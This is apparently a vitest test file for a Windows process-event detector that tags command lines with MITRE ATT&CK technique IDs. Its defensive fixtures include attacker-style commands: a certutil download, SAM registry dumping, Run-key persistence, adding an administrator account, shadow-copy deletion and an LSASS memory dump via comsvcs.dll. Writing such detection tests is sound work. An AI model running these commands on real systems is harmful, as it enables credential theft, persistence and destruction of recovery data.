import { describe, expect, it } from 'vitest';
import { loadBinaryFacts } from '../../../src/alert/index.ts';
import { makeStart } from '../../support/process-event.ts';

const facts = loadBinaryFacts();

describe('BinaryFacts', () => {
  it.each([
    ['certutil.exe', 'certutil -urlcache -f http://x/y z', ['T1105']],
    ['certutil.exe', 'certutil -dump my.cer', []],
    ['reg.exe', 'reg save HKLM\\SAM C:\\x', ['T1003.002']],
    [
      'reg.exe',
      'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x',
      ['T1112', 'T1547.001'],
    ],
    ['net.exe', 'net localgroup administrators mallory /add', ['T1069', 'T1098']],
    ['NET1.EXE', 'net1 user mallory pw /add', ['T1087', 'T1136.001']],
    ['vssadmin.exe', 'vssadmin delete shadows /all', ['T1490']],
    ['rundll32.exe', 'rundll32 comsvcs.dll, MiniDump 712 x full', ['T1003.001', 'T1218.011']],
    ['notepad.exe', 'notepad x.txt', []],
  ])('%s with %s', (name, commandLine, ids) => {
    const found = facts.techniquesOf(makeStart({ name, commandLine }));
    expect(found.map(({ id }) => id).sort()).toEqual(ids);
  });

  it('goes by the original name of a renamed program', () => {
    const start = makeStart({
      name: 'theme.exe',
      originalFileName: 'CertUtil.exe',
      commandLine: 'theme -decode a b',
    });
    expect(facts.techniquesOf(start).map(({ id }) => id)).toEqual(['T1140']);
  });

  it('knows at least sixty programs, each by one name only', () => {
    const names = ['powershell.exe', 'mshta.exe', 'psexesvc.exe', 'winword.exe'];
    for (const name of names) expect(facts.of(name)?.purpose).toBeTruthy();
    expect(facts.isRecon('WHOAMI.exe')).toBe(true);
    expect(facts.isRecon('powershell.exe')).toBe(false);
  });
});
